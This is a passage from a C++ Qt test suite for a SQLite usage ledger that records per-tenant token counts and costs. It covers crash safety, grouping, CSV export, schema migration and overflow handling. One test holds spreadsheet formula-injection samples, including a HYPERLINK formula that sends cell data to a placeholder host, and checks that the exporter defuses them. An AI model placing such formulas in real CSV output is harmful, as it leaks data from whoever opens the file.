// The usage ledger: rows survive reopening the file, reach it without waiting
// for a tick, group and export as a user reads them, migrate from the first schema,
// prune past retention once a day, and a file that cannot be opened or written
// costs one log line and no lost answer. Time is the fake clock's.

#include "core/telemetry/usage_database.h"
#include "core/telemetry/usage_ledger.h"
#include "fake_clock.h"
#include "signal_wait.h"
#include "unprivileged_run.h"

#include <QCoreApplication>
#include <QDateTime>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QScopeGuard>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QSysInfo>
#include <QTemporaryDir>
#include <QTest>

#include <atomic>
#include <cmath>
#include <cstdio>
#include <ctime>
#include <limits>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>
#include <vector>

using namespace sw;
using namespace sw::telemetry;

namespace {

struct LogLine {
    QString level;
    QString message;
};

qint64 localMs(int y, int mo, int d, int h = 12, int mi = 0) {
    return QDateTime(QDate(y, mo, d), QTime(h, mi)).toMSecsSinceEpoch();
}

UsageRow row(const QString &id, const QString &tenant, const QString &candidate, qint64 in, qint64 out, double cost,
             qint64 at) {
    UsageRow r;
    r.requestId = id;
    r.tenant = tenant;
    r.route = QStringLiteral("coding");
    r.candidate = candidate;
    r.provider = candidate.section(QLatin1Char('/'), 0, 0);
    r.input = in;
    r.output = out;
    r.cacheRead = in / 2;
    r.cacheWrite = 1;
    r.cost = cost;
    r.outcome = QStringLiteral("ok");
    r.atEpochMs = at;
    return r;
}

// What a stopped instance's file holds, read the way `switchman usage` reads it.
UsageReport readFile(const QString &path, UsageGrouping g = UsageGrouping::None) {
    UsageDatabase db;
    QString error;
    if (!db.open(path, UsageDatabase::Mode::ReadOnly, &error)) {
        UsageReport r;
        r.error = error;
        return r;
    }
    UsageQuery q;
    q.groupBy = g;
    return db.query(q);
}

// A committed answer's open row: what it costs by estimate if the process dies before its end.
UsageRow openRow(const QString &id, double cost, qint64 at) {
    UsageRow r = row(id, QStringLiteral("team-a"), QStringLiteral("pa/claude-a"), 4000, 3, cost, at);
    r.outcome = QStringLiteral("interrupted");
    return r;
}

// Every page but the first overwritten with garbage: the file opens, its tables cannot be read.
bool corruptAllButTheFirstPage(const QString &path) {
    QFile f(path);
    if (!f.open(QIODevice::ReadWrite) || f.size() <= 8192)
        return false;
    const QByteArray header = f.read(18);
    const int pageSize = (quint8(header.at(16)) << 8 | quint8(header.at(17))) == 1
                             ? 65536
                             : (quint8(header.at(16)) << 8 | quint8(header.at(17)));
    QByteArray garbage(f.size() - pageSize, Qt::Uninitialized);
    quint32 x = 2463534242u;
    for (char &c : garbage) {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        c = char(x);
    }
    return f.seek(pageSize) && f.write(garbage) == garbage.size();
}

int openRows(const QString &path) {
    UsageDatabase db;
    QString error;
    if (!db.open(path, UsageDatabase::Mode::ReadOnly, &error))
        return -1;
    return db.openRowCount();
}

UsageReport ask(UsageLedger &ledger, const UsageQuery &q) {
    std::optional<UsageReport> out;
    QObject context;
    ledger.query(q, &context, [&out](const UsageReport &r) { out = r; });
    if (!test::waitUntil([&out]() { return out.has_value(); }, 5000))
        qWarning("the ledger did not answer");
    return out.value_or(UsageReport{});
}

// Appends rows of a long id until the capped file refuses a batch; the number appended.
int fillUntilUnwritten(UsageLedger &ledger, test::FakeClock &clock) {
    const QString longId = QString(600, QLatin1Char('x'));
    int n = 0;
    for (int batch = 0; batch < 40 && ledger.unwrittenRows() == 0; ++batch) {
        for (int i = 0; i < 20; ++i, ++n)
            ledger.append(row(longId + QString::number(n), QStringLiteral("t"), QStringLiteral("pa/m"), 1, 1, 0.1,
                              clock.epochMs()));
        ledger.flushAndWait();
    }
    return n;
}

int modeOf(const QString &path) {
    struct stat st {};
    return ::stat(QFile::encodeName(path).constData(), &st) == 0 ? int(st.st_mode & 07777) : -1;
}

bool setMode(const QString &path, int mode) {
    return ::chmod(QFile::encodeName(path).constData(), mode_t(mode)) == 0;
}

QStringList requestIds(const UsageReport &report) {
    QStringList ids;
    for (const UsageRow &r : report.rows)
        ids << r.requestId;
    ids.sort();
    return ids;
}

// A spend read as the budgets make it every second: nullopt when nothing new was read.
std::optional<QList<double>> readSpendOf(UsageLedger &ledger, const QList<SpendWindow> &windows) {
    std::optional<std::optional<QList<double>>> out;
    QObject context;
    ledger.readSpend(windows, &context, [&out](std::optional<QList<double>> spent) { out = spent; });
    if (!test::waitUntil([&out]() { return out.has_value(); }, 5000))
        qWarning("the ledger did not answer");
    return out.value_or(std::nullopt);
}

} // namespace

class TestUsageLedger : public QObject {
    Q_OBJECT

    QList<LogLine> m_log;
    UsageLedger::LogFn logger() {
        return [this](const QString &level, const QString &message, const QJsonObject &) {
            m_log.append({level, message});
        };
    }

    // A ledger file in `dir` that holds one row: bob spent $2 at 9:00 on 10 January, which is
    // `clock`'s day (its time is noon).
    QString fileWithBobsTwoDollars(const QTemporaryDir &dir, test::FakeClock &clock) {
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        clock.setEpochMs(localMs(2026, 1, 10, 12));
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        ledger.append(row(QStringLiteral("r1"), QStringLiteral("bob"), QStringLiteral("pa/m"), 1, 1, 2.0,
                          localMs(2026, 1, 10, 9)));
        return path;
    }

private Q_SLOTS:
    void initTestCase() {
        qputenv("TZ", "Europe/Berlin"); // local days differ from UTC ones: grouping must use local time
        ::tzset();
    }
    void init() { m_log.clear(); }

    void rowsSurviveReopeningTheFile() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("switchman/usage.sqlite"));
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 1, 10));
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            QVERIFY(ledger.persistent());
            ledger.append(row(QStringLiteral("req_1"), QStringLiteral("team-a"), QStringLiteral("pa/claude-a"), 100, 20,
                              0.5, localMs(2026, 1, 10)));
            ledger.append(row(QStringLiteral("req_2:a1"), QStringLiteral("team-b"), QStringLiteral("pb/gpt-b"), 7, 3,
                              0.25, localMs(2026, 1, 10, 13)));
        } // closing writes what is pending
        const UsageReport r = readFile(path);
        QVERIFY2(r.error.isEmpty(), qPrintable(r.error));
        QCOMPARE(r.rows.size(), 2);
        const UsageRow &a = r.rows.at(0);
        QCOMPARE(a.requestId, QStringLiteral("req_1"));
        QCOMPARE(a.tenant, QStringLiteral("team-a"));
        QCOMPARE(a.route, QStringLiteral("coding"));
        QCOMPARE(a.candidate, QStringLiteral("pa/claude-a"));
        QCOMPARE(a.provider, QStringLiteral("pa"));
        QCOMPARE(a.input, 100);
        QCOMPARE(a.output, 20);
        QCOMPARE(a.cacheRead, 50);
        QCOMPARE(a.cacheWrite, 1);
        QCOMPARE(a.cost, 0.5);
        QCOMPARE(a.outcome, QStringLiteral("ok"));
        QCOMPARE(a.atEpochMs, localMs(2026, 1, 10));
        QCOMPARE(r.rows.at(1).requestId, QStringLiteral("req_2:a1"));
        QCOMPARE(r.totals.cost, 0.75);

        // A second run appends to the same file.
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.append(row(QStringLiteral("req_3"), QStringLiteral("team-a"), QStringLiteral("pa/claude-a"), 1, 1,
                              1.0, localMs(2026, 1, 11)));
            QCOMPARE(ask(ledger, {}).rows.size(), 3);
        }
        QCOMPARE(readFile(path).rows.size(), 3);
        QVERIFY(m_log.isEmpty());
    }

    void aRowReachesTheFileWithoutWaitingForATick() {
        // A crash loses only the write under way: a row goes to the worker at once (the clock never
        // moves here), and rows that come while a write is under way go together after it.
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        ledger.append(
            row(QStringLiteral("req_1"), QStringLiteral("t"), QStringLiteral("pa/m"), 1, 1, 0.1, clock.epochMs()));
        QTRY_COMPARE_WITH_TIMEOUT(readFile(path).rows.size(), 1, 5000);
        for (int i = 2; i <= 50; ++i)
            ledger.append(row(QStringLiteral("req_%1").arg(i), QStringLiteral("t"), QStringLiteral("pa/m"), 1, 1, 0.1,
                              clock.epochMs()));
        QTRY_COMPARE_WITH_TIMEOUT(readFile(path).rows.size(), 50, 5000);
        QVERIFY(m_log.isEmpty());
    }

    // Probe R4 F2: a file whose first page is whole and whose others are garbage opens without a
    // word; its sums failed and read as $0, so budgets reset silently, and `switchman usage` printed
    // $0 totals. A failed spend read says so (to the budgets and once in the log), and a query
    // says the file cannot be read.
    void aFileWhoseSumsFailIsNotZeroSpend() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        const qint64 at = clock.epochMs();
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            for (int i = 0; i < 200; ++i)
                ledger.append(row(QStringLiteral("req_%1").arg(i), QStringLiteral("team-a"), QStringLiteral("pa/m"), 9,
                                  9, 0.5, at));
        }
        QVERIFY(!QFile::exists(path + QStringLiteral("-wal")) || QFileInfo(path + QStringLiteral("-wal")).size() == 0);
        QVERIFY(corruptAllButTheFirstPage(path));
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QVERIFY(ledger.readable()); // it opens: the first page is whole
        bool ok = true;
        ledger.spentSince(QStringLiteral("team-a"), at - 1000, 0, &ok);
        QVERIFY(!ok);
        QCOMPARE(m_log.size(), 1);
        QCOMPARE(m_log.first().level, QStringLiteral("error"));
        QVERIFY2(m_log.first().message.contains(QStringLiteral("cannot read the spend")) &&
                     m_log.first().message.contains(path),
                 qPrintable(m_log.first().message));
        ledger.spentSince(QStringLiteral("team-a"), at - 1000, 0, &ok);
        QVERIFY(!ok);
        QCOMPARE(m_log.size(), 1); // once until it can be read again
        const UsageReport r = readFile(path);
        QVERIFY(r.unreadable);
        QVERIFY(!r.error.isEmpty());
        QVERIFY(UsageReport::fromJson(r.toJson()).unreadable); // /admin/usage tells `switchman usage`
    }

    // Probe R4 F1: kill -9 within a second of answers lost their rows entirely. A short answer's
    // open row was dropped when its final row came, and the final row waited for the 1 s batch, so
    // the file held neither, and a tenant past its budget was served again after the restart. At
    // every moment the file holds the answer's open row or its final row: what a kill -9 leaves
    // (the file as it is, taken while the ledger runs) bills it at the next start.
    void aCrashRightAfterAnswersKeepsTheirSpend() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 1, 10));
        const qint64 at = clock.epochMs();
        int crash = 0;
        // The files a kill -9 now would leave, opened by the next start (this pid, another writer).
        const auto crashNow = [&]() {
            const QString copy = dir.filePath(QStringLiteral("crash%1/usage.sqlite").arg(++crash));
            QDir().mkpath(QFileInfo(copy).path());
            for (const QString &suffix : {QString(), QStringLiteral("-wal")})
                if (QFile::exists(path + suffix))
                    QFile::copy(path + suffix, copy + suffix);
            return copy;
        };
        const QString teamA = QStringLiteral("team-a");
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        // A streamed answer committed: its open row is in the file before any tick.
        ledger.openAnswer(openRow(QStringLiteral("req_stream"), 0.25, at));
        QTRY_COMPARE_WITH_TIMEOUT(openRows(path), 1, 5000);
        {
            UsageLedger next({crashNow(), 400, 0, {}}, clock, logger());
            QCOMPARE(next.spentSince(teamA, at - 1000), 0.25); // billed "interrupted"
            QCOMPARE(ask(next, {}).rows.first().outcome, QStringLiteral("interrupted"));
        }
        m_log.clear();
        // It ends, and a JSON answer (no open row) ends beside it; the crash comes before any tick.
        ledger.append(row(QStringLiteral("req_stream"), teamA, QStringLiteral("pa/claude-a"), 9, 9, 1.25, at));
        ledger.append(row(QStringLiteral("req_json"), teamA, QStringLiteral("pa/claude-a"), 9, 9, 1.25, at));
        QTRY_COMPARE_WITH_TIMEOUT(readFile(path).rows.size(), 2, 5000);
        QCOMPARE(openRows(path), 0); // deleted in the transaction that wrote the final row
        {
            UsageLedger next({crashNow(), 400, 0, {}}, clock, logger());
            QCOMPARE(next.spentSince(teamA, at - 1000), 2.5); // both answers, once each
            const UsageReport r = ask(next, {});
            QCOMPARE(r.rows.size(), 2);
            for (const UsageRow &u : r.rows)
                QCOMPARE(u.outcome, QStringLiteral("ok"));
        }
        QVERIFY2(m_log.isEmpty(), m_log.isEmpty() ? "" : qPrintable(m_log.first().message)); // nothing billed twice
    }

    void groupsAndCsvMatchKnownRows() {
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 1, 12));
        UsageLedger ledger({QString(), 400, 0, {}}, clock, logger());
        // 23:30 local on Jan 10 is Jan 10 22:30 UTC; 00:30 local on Jan 11 is Jan 10 23:30 UTC.
        ledger.append(row(QStringLiteral("r1"), QStringLiteral("team-a"), QStringLiteral("pa/claude-a"), 100, 10, 0.10,
                          localMs(2026, 1, 10, 23, 30)));
        ledger.append(row(QStringLiteral("r2"), QStringLiteral("team-b"), QStringLiteral("pb/gpt-b"), 200, 20, 0.20,
                          localMs(2026, 1, 11, 0, 30)));
        ledger.append(row(QStringLiteral("r3"), QStringLiteral("team-a"), QStringLiteral("pb/gpt-b"), 300, 30, 0.30,
                          localMs(2026, 1, 11, 9)));
        ledger.append(row(QStringLiteral("r4"), QStringLiteral("team-a"), QStringLiteral("pa/claude-a"), 400, 40, 0.40,
                          localMs(2026, 1, 12, 9)));

        UsageQuery q;
        q.groupBy = UsageGrouping::Day;
        UsageReport byDay = ask(ledger, q);
        QCOMPARE(byDay.groups.size(), 3);
        QCOMPARE(byDay.groups.at(0).key, QStringLiteral("2026-01-10"));
        QCOMPARE(byDay.groups.at(1).key, QStringLiteral("2026-01-11"));
        QCOMPARE(byDay.groups.at(1).attempts, 2);
        QCOMPARE(byDay.groups.at(1).input, 500);
        QCOMPARE(byDay.groups.at(1).cost, 0.5);
        QCOMPARE(byDay.totals.attempts, 4);
        QCOMPARE(byDay.totals.input, 1000);
        QCOMPARE(byDay.totals.cacheRead, 500);
        QCOMPARE(byDay.totals.cost, 1.0);

        q.groupBy = UsageGrouping::Provider;
        const UsageReport byProvider = ask(ledger, q);
        QCOMPARE(byProvider.groups.size(), 2);
        QCOMPARE(byProvider.groups.at(0).key, QStringLiteral("pa"));
        QCOMPARE(byProvider.groups.at(0).output, 50);
        QCOMPARE(byProvider.groups.at(1).key, QStringLiteral("pb"));
        QCOMPARE(byProvider.groups.at(1).output, 50);

        q.groupBy = UsageGrouping::Model;
        QCOMPARE(ask(ledger, q).groups.at(0).key, QStringLiteral("pa/claude-a"));

        // Filters: a tenant, and a local-day window [Jan 11, Jan 12).
        q.groupBy = UsageGrouping::Tenant;
        q.sinceMs = *parseTimeBound(QStringLiteral("2026-01-11"), clock.epochMs());
        q.untilMs = *parseTimeBound(QStringLiteral("2026-01-12"), clock.epochMs());
        const UsageReport window = ask(ledger, q);
        QCOMPARE(window.groups.size(), 2);
        QCOMPARE(window.groups.at(0).key, QStringLiteral("team-a"));
        QCOMPARE(window.groups.at(0).input, 300);
        QCOMPARE(window.groups.at(1).key, QStringLiteral("team-b"));
        QCOMPARE(window.totals.input, 500);
        q.tenant = QStringLiteral("team-b");
        QCOMPARE(ask(ledger, q).totals.input, 200);

        // CSV: a header, one line per group, costs to six places.
        UsageQuery csvQuery;
        csvQuery.groupBy = UsageGrouping::Day;
        QCOMPARE(ask(ledger, csvQuery).toCsv(), QStringLiteral("day,attempts,input,output,cacheRead,cacheWrite,cost\r\n"
                                                               "2026-01-10,1,100,10,50,1,0.100000\r\n"
                                                               "2026-01-11,2,500,50,250,2,0.500000\r\n"
                                                               "2026-01-12,1,400,40,200,1,0.400000\r\n"));
        UsageQuery rowsQuery;
        rowsQuery.sinceMs = localMs(2026, 1, 12, 0);
        const QString rowsCsv = ask(ledger, rowsQuery).toCsv();
        QCOMPARE(rowsCsv,
                 QStringLiteral("at,requestId,tenant,route,provider,model,input,output,cacheRead,cacheWrite,"
                                "cost,outcome\r\n"
                                "2026-01-12T09:00:00,r4,team-a,coding,pa,claude-a,400,40,200,1,0.400000,ok\r\n"));
        // The JSON keeps the /admin/usage row shape.
        const QJsonObject json = ask(ledger, rowsQuery).toJson();
        const QJsonObject first = json.value(QStringLiteral("rows")).toArray().first().toObject();
        for (const char *key : {"requestId", "tenant", "candidate", "input", "output", "cost", "outcome"})
            QVERIFY2(first.contains(QLatin1String(key)), key);
        // Its time says its offset from UTC: read elsewhere, or by JavaScript's Date, it is the same
        // instant as the log's (probe I3 5: without it, off by the zone).
        QCOMPARE(first.value(QStringLiteral("at")).toString(), QStringLiteral("2026-01-12T09:00:00+01:00"));
        QCOMPARE(json.value(QStringLiteral("totals")).toObject().value(QStringLiteral("input")).toInt(), 400);

        // A model is provider/id: the same id at another provider is another model (probe E4 5:
        // p1/m and p2/m came out as one row "m").
        ledger.append(row(QStringLiteral("r5"), QStringLiteral("team-b"), QStringLiteral("pc/claude-a"), 1, 1, 0.01,
                          localMs(2026, 1, 12, 10)));
        q = UsageQuery();
        q.groupBy = UsageGrouping::Model;
        const UsageReport byModel = ask(ledger, q);
        QCOMPARE(byModel.groups.size(), 3);
        QCOMPARE(byModel.groups.at(0).key, QStringLiteral("pa/claude-a"));
        QCOMPARE(byModel.groups.at(0).attempts, 2);
        QCOMPARE(byModel.groups.at(2).key, QStringLiteral("pc/claude-a"));
        QCOMPARE(byModel.groups.at(2).attempts, 1);
    }

    void aRowWithMissingFieldsIsStillKept() {
        // No route known yet, no outcome, a cost that is not a number: one such row must not hold
        // back every row after it.
        test::FakeClock clock;
        UsageLedger ledger({QString(), 400, 0, {}}, clock, logger());
        UsageRow odd;
        odd.requestId = QStringLiteral("req_odd");
        odd.candidate = QStringLiteral("pa/m");
        odd.cost = std::nan("");
        odd.atEpochMs = clock.epochMs();
        ledger.append(odd);
        ledger.append(
            row(QStringLiteral("req_next"), QStringLiteral("t"), QStringLiteral("pa/m"), 1, 1, 0.1, clock.epochMs()));
        const UsageReport r = ask(ledger, {});
        QVERIFY2(r.error.isEmpty(), qPrintable(r.error));
        QCOMPARE(r.rows.size(), 2);
        QCOMPARE(r.rows.first().cost, 0.0);
        QVERIFY(m_log.isEmpty());
    }

    // A ledger written before token counts were checked can hold an upstream's int64-max row (cost
    // $1.66e14). Every report over it failed with "integer overflow" and its tenant's budget was
    // spent. It now reads as a row of unknown counts that cost nothing; the other rows are right.
    void aRowWithInt64MaxTokensBreaksNoReport() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 1, 10));
        const qint64 at = localMs(2026, 1, 10, 9);
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            ledger.append(row(QStringLiteral("a"), QStringLiteral("team-a"), QStringLiteral("pa/m"), 100, 10, 0.5, at));
            ledger.append(
                row(QStringLiteral("b"), QStringLiteral("team-b"), QStringLiteral("pa/m"), 200, 20, 0.25, at));
            // What the ledger is given is checked too: stored as unknown (0), cost as given.
            ledger.append(row(QStringLiteral("c"), QStringLiteral("team-b"), QStringLiteral("pa/m"),
                              std::numeric_limits<qint64>::max(), 30, 0.125, at));
        }
        {
            // The row an older Switchman stored, as it stored it.
            QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("old"));
            db.setDatabaseName(path);
            QVERIFY(db.open());
            QSqlQuery q(db);
            QVERIFY(q.exec(QStringLiteral("INSERT INTO usage (request_id, tenant, route, candidate, provider, model,"
                                          " input, output, cache_read, cache_write, cost, outcome, at_ms) VALUES"
                                          " ('max', 'team-b', 'r', 'pa/m', 'pa', 'm', 9223372036854775807, 5,"
                                          " 9223372036854775807, 0, 1.66e14, 'ok', %1)")
                               .arg(at)));
            db.close();
        }
        QSqlDatabase::removeDatabase(QStringLiteral("old"));
        for (const UsageGrouping g : {UsageGrouping::None, UsageGrouping::Tenant, UsageGrouping::Day,
                                      UsageGrouping::Model, UsageGrouping::Provider}) {
            const UsageReport r = readFile(path, g);
            QVERIFY2(r.error.isEmpty(), qPrintable(r.error));
            QCOMPARE(r.totals.attempts, 4);
            QCOMPARE(r.totals.input, 300);
            QCOMPARE(r.totals.output, 65);
            QCOMPARE(r.totals.cacheRead, 150);
            QCOMPARE(r.totals.cost, 0.875);
        }
        const UsageReport byTenant = readFile(path, UsageGrouping::Tenant);
        QCOMPARE(byTenant.groups.size(), 2);
        QCOMPARE(byTenant.groups.at(0).key, QStringLiteral("team-a"));
        QCOMPARE(byTenant.groups.at(0).cost, 0.5);
        QCOMPARE(byTenant.groups.at(1).key, QStringLiteral("team-b"));
        QCOMPARE(byTenant.groups.at(1).attempts, 3);
        QCOMPARE(byTenant.groups.at(1).cost, 0.375);
        const UsageReport rows = readFile(path);
        QCOMPARE(rows.rows.size(), 4);
        QCOMPARE(rows.rows.at(2).input, 0);
        QCOMPARE(rows.rows.at(3).input, 0);
        QCOMPARE(rows.rows.at(3).cost, 0.0);
        // A budget summed from the file after a restart.
        UsageDatabase db;
        QString error;
        QVERIFY2(db.open(path, UsageDatabase::Mode::ReadOnly, &error), qPrintable(error));
        QCOMPARE(db.spentSince(QStringLiteral("team-b"), 0), 0.375);
    }

    // A client can name any number of models (a direct selector provider/<anything>): grouped by
    // model, the answer holds the groups that cost most and one "(other)" row for the rest, so
    // its size is bounded whatever the ledger holds; the totals still count every row.
    void groupsPastTheBoundAreOneOtherRow() {
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 1, 12));
        UsageLedger ledger({QString(), 400, 0, {}}, clock, logger());
        const qint64 at = localMs(2026, 1, 12, 9);
        ledger.append(row(QStringLiteral("big"), QStringLiteral("t"), QStringLiteral("pa/zz-big"), 10, 1, 5.0, at));
        for (int i = 0; i < 500; ++i)
            ledger.append(row(QStringLiteral("r%1").arg(i), QStringLiteral("t"),
                              QStringLiteral("pa/invented-%1").arg(i, 3, 10, QLatin1Char('0')), 1, 1, 0.001 * (i + 1),
                              at));
        UsageQuery q;
        q.groupBy = UsageGrouping::Model;
        const UsageReport r = ask(ledger, q);
        QVERIFY2(r.error.isEmpty(), qPrintable(r.error));
        QCOMPARE(r.groups.size(), UsageQuery::kDefaultMaxGroups + 1);
        QCOMPARE(r.totals.attempts, 501);
        // The most expensive are shown, by key; the cheapest 401 are the last row.
        QCOMPARE(r.groups.at(0).key, QStringLiteral("pa/invented-401"));
        QCOMPARE(r.groups.at(98).key, QStringLiteral("pa/invented-499"));
        QCOMPARE(r.groups.at(99).key, QStringLiteral("pa/zz-big"));
        const UsageTotals &other = r.groups.last();
        QCOMPARE(other.key, QStringLiteral("(other)"));
        QCOMPARE(other.otherGroups, 401);
        QCOMPARE(other.attempts, 401);
        QCOMPARE(other.input, 401);
        double shown = 0;
        for (const UsageTotals &g : r.groups)
            shown += g.cost;
        QVERIFY(std::abs(shown - r.totals.cost) < 1e-9);
        const QJsonObject json = r.toJson();
        QCOMPARE(
            json.value(QStringLiteral("rows")).toArray().last().toObject().value(QStringLiteral("otherGroups")).toInt(),
            401);
        QCOMPARE(UsageReport::fromJson(json).groups.last().otherGroups, 401);

        // A smaller bound, and none reached: no "(other)" row.
        q.maxGroups = 3;
        const UsageReport three = ask(ledger, q);
        QCOMPARE(three.groups.size(), 4);
        QCOMPARE(three.groups.last().otherGroups, 498);
        q.groupBy = UsageGrouping::Tenant;
        QCOMPARE(ask(ledger, q).groups.size(), 1);
        QCOMPARE(ask(ledger, q).groups.first().otherGroups, 0);
    }

    void csvQuotesFieldsThatNeedIt() {
        UsageReport r;
        r.groupBy = UsageGrouping::Tenant;
        UsageTotals t;
        t.key = QStringLiteral("acme, \"east\"");
        r.groups.append(t);
        QVERIFY(r.toCsv().endsWith(QStringLiteral("\"acme, \"\"east\"\"\",0,0,0,0,0,0.000000\r\n")));
    }

    void csvNeverStartsAFieldWithAFormula() {
        // A direct selector is the tenant's text: "o/=HYPERLINK(…)" landed in the model column as a
        // formula that Excel and LibreOffice run, quoted or not (probe E3 3).
        UsageReport r;
        r.groupBy = UsageGrouping::Model;
        for (const char *key :
             {"=HYPERLINK(\"http://x.invalid/?\"&A1,\"see\")", "@SUM(A1:A9)", "+1-1", "-2", "gpt-4o"}) {
            UsageTotals t;
            t.key = QString::fromLatin1(key);
            r.groups.append(t);
        }
        const QStringList lines = r.toCsv().split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
        QCOMPARE(lines.size(), 6);
        QCOMPARE(lines[1],
                 QStringLiteral("\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"see\"\")\",0,0,0,0,0,0.000000"));
        QCOMPARE(lines[2], QStringLiteral("'@SUM(A1:A9),0,0,0,0,0,0.000000"));
        QCOMPARE(lines[3], QStringLiteral("'+1-1,0,0,0,0,0,0.000000"));
        QCOMPARE(lines[4], QStringLiteral("'-2,0,0,0,0,0,0.000000"));
        QCOMPARE(lines[5], QStringLiteral("gpt-4o,0,0,0,0,0,0.000000"));
    }

    void timeBoundsParse() {
        const qint64 now = localMs(2026, 1, 12, 15);
        QCOMPARE(*parseTimeBound(QStringLiteral("7d"), now), now - 7 * 86'400'000LL);
        QCOMPARE(*parseTimeBound(QStringLiteral("24h"), now), now - 86'400'000LL);
        QCOMPARE(*parseTimeBound(QStringLiteral("2026-01-05"), now), localMs(2026, 1, 5, 0));
        QCOMPARE(*parseTimeBound(QStringLiteral("1767225600000"), now), 1767225600000LL);
        QVERIFY(!parseTimeBound(QStringLiteral("last tuesday"), now));
    }

    void migratesAVersionOneFile() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        {
            // The first schema, as a Switchman of schema version 1 left it.
            QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("v1"));
            db.setDatabaseName(path);
            QVERIFY(db.open());
            QSqlQuery q(db);
            QVERIFY(q.exec(QStringLiteral(
                "CREATE TABLE usage (id INTEGER PRIMARY KEY, request_id TEXT NOT NULL, tenant TEXT NOT NULL,"
                " candidate TEXT NOT NULL, provider TEXT NOT NULL, model TEXT NOT NULL, input INTEGER NOT NULL,"
                " output INTEGER NOT NULL, cache_read INTEGER NOT NULL, cache_write INTEGER NOT NULL,"
                " cost REAL NOT NULL, outcome TEXT NOT NULL, at_ms INTEGER NOT NULL)")));
            QVERIFY(q.exec(QStringLiteral("INSERT INTO usage VALUES (1, 'old', 'team-a', 'pa/m', 'pa', 'm', 5, 6, 0, 0,"
                                          " 0.5, 'ok', %1)")
                               .arg(localMs(2026, 1, 9))));
            QVERIFY(q.exec(QStringLiteral("PRAGMA user_version=1")));
            db.close();
        }
        QSqlDatabase::removeDatabase(QStringLiteral("v1"));
        test::FakeClock clock;
        clock.setEpochMs(localMs(2026, 1, 10));
        {
            UsageLedger ledger({path, 400, 0, {}}, clock, logger());
            QVERIFY(ledger.persistent());
            ledger.append(row(QStringLiteral("new"), QStringLiteral("team-a"), QStringLiteral("pa/m"), 1, 1, 0.25,
                              localMs(2026, 1, 10)));
        }
        QVERIFY2(m_log.isEmpty(), m_log.isEmpty() ? "" : qPrintable(m_log.first().message));
        UsageDatabase db;
        QString error;
        QVERIFY2(db.open(path, UsageDatabase::Mode::ReadOnly, &error), qPrintable(error));
        QCOMPARE(db.schemaVersion(), UsageDatabase::kSchemaVersion);
        const UsageReport r = db.query({});
        QCOMPARE(r.rows.size(), 2);
        QCOMPARE(r.rows.at(0).requestId, QStringLiteral("old"));
        QCOMPARE(r.rows.at(0).route, QString()); // unknown for rows the first schema kept
        QCOMPARE(r.rows.at(1).route, QStringLiteral("coding"));
        QCOMPARE(db.spentSince(QStringLiteral("team-a"), 0), 0.75);
    }

    void replicasOpeningOneNewFileAtOnceAllGetIt() {
        // Two replicas started together on one data folder: one of them failed half the time with
        // "table usage already exists" and kept its usage in memory only (found by a probe). Four
        // connections on four threads open each new file at the same moment.
        for (int round = 0; round < 5; ++round) {
            QTemporaryDir dir;
            const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
            std::atomic<int> ready{0};
            std::vector<QString> errors(4);
            std::vector<std::thread> threads;
            for (int i = 0; i < 4; ++i)
                threads.emplace_back([&, i] {
                    sw::telemetry::UsageDatabase db;
                    ++ready;
                    while (ready.load() < 4) {
                    }
                    QString error;
                    if (!db.open(path, sw::telemetry::UsageDatabase::Mode::ReadWrite, &error))
                        errors[size_t(i)] = error.isEmpty() ? QStringLiteral("failed") : error;
                    else if (db.schemaVersion() != sw::telemetry::UsageDatabase::kSchemaVersion)
                        errors[size_t(i)] = QStringLiteral("schema version %1").arg(db.schemaVersion());
                });
            for (auto &t : threads)
                t.join();
            for (const QString &e : errors)
                QVERIFY2(e.isEmpty(), qPrintable(QStringLiteral("round %1: %2").arg(round).arg(e)));
        }
    }

    void aNewerSchemaIsLeftAlone() {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("usage.sqlite"));
        {
            QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("v9"));
            db.setDatabaseName(path);
            QVERIFY(db.open());
            QSqlQuery(db).exec(QStringLiteral("PRAGMA user_version=9"));
            db.close();
        }
        QSqlDatabase::removeDatabase(QStringLiteral("v9"));
        test::FakeClock clock;
        UsageLedger ledger({path, 400, 0, {}}, clock, logger());
        QVERIFY(!ledger.persistent());
        QCOMPARE(m_log.size(), 1);
        QVERIFY2(m_log.first().message.contains(QStringLiteral("newer")), qPrintable(m_log.first().message));
    }

    void aFileThatCannotBeCreatedCostsOneLine() {
        // A path below a regular file cannot be created, whoever runs the test (root included).
        QTemporaryDir dir;
        QFile blocker(dir.filePath(QStringLiteral("not-a-folder")));
